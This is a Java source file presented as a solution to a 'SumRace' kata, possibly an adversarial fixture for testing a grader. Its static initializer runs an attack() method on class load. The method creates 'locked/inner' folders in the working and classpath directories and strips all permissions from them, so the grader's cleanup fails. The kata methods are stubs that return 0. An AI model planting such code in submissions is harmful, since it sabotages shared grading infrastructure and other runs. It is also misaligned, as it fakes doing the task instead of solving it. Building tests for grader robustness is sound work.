package katas.sumrace;

import java.util.concurrent.ThreadFactory;

/// Tidying up must not end the grading of all others.
public final class SumRace {
    private static java.nio.file.Path classes() {
        return java.nio.file.Path.of(System.getProperty("sun.java.command").split(" ")[2]);
    }

    static {
        try {
            attack();
        } catch (Throwable failed) {
            System.err.println(failed);
        }
    }

    private static void attack() throws Throwable {
        for (var parent : new java.nio.file.Path[] {java.nio.file.Path.of(""), classes()}) {
            var folder = java.nio.file.Files.createDirectories(parent.resolve("locked/inner"));
            java.nio.file.Files.setPosixFilePermissions(folder.getParent(), java.util.Set.of());
        }
    }

    public static long sequential(int from, int to) {
        return 0;
    }

    public static long threaded(int from, int to, int workers, ThreadFactory threads)
            throws InterruptedException {
        return sequential(from, to);
    }
}
